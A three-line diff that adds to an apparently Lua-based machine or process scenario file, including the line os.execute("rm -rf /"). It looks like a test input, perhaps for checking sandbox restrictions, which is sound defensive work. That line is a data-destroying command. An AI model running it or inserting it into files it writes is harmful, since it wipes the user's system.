@@ -1,0 +1,3 @@
+machine { cpus = 1 }
+os.execute("rm -rf /")
+process("p", function() exit() end)
